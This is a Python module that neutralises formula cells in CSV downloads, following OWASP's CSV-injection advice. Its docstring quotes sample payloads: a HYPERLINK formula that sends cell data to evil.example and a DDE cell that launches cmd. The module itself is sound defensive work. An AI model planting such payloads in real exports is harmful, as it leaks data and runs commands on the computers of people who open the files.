"""CSV downloads that a spreadsheet opens as data, never as formulas (OWASP "CSV Injection").

IDs, titles and metadata come from users' files and from the service, so a cell such as
`=HYPERLINK("http://evil.example?"&A1)`, `+cmd|' /C calc'!A0` or `@SUM(1+1)` would run when the
download is opened in Excel, LibreOffice or Google Sheets. As OWASP recommends, every text cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, and the csv
module quotes every cell that needs it (separators, quotes, CR and LF). Numbers stay numbers.
Every CSV download of the console goes through `frame_to_csv` or `writer_row`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

import pandas as pd

#: Cell starts that spreadsheets read as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text cell made inert (`'` prefixed when it could start a formula); others unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The inverse of `neutralise` for text read back from a CSV this module wrote."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def writer_row(row: Iterable[Any]) -> list[Any]:
    """One row for `csv.writer`, every text cell neutralised."""
    return [neutralise(v) for v in row]


def new_writer(out: io.StringIO) -> Any:
    """A csv.writer ending rows with CRLF (RFC 4180), so a carriage return inside a cell is
    quoted too: with "\n" alone the csv module leaves a lone CR bare and it splits the row."""
    return csv.writer(out, lineterminator="\r\n")


def frame_to_csv(frame: pd.DataFrame) -> bytes:
    """A table as UTF-8 CSV for a download button: header and text cells neutralised."""
    out = io.StringIO()
    writer = new_writer(out)
    writer.writerow(writer_row(str(c) for c in frame.columns))
    for row in frame.itertuples(index=False, name=None):
        writer.writerow(writer_row("" if _missing(v) else v for v in row))
    return out.getvalue().encode("utf-8")


def _missing(value: Any) -> bool:
    try:
        return bool(pd.isna(value))
    except (TypeError, ValueError):  # lists and arrays: present
        return False
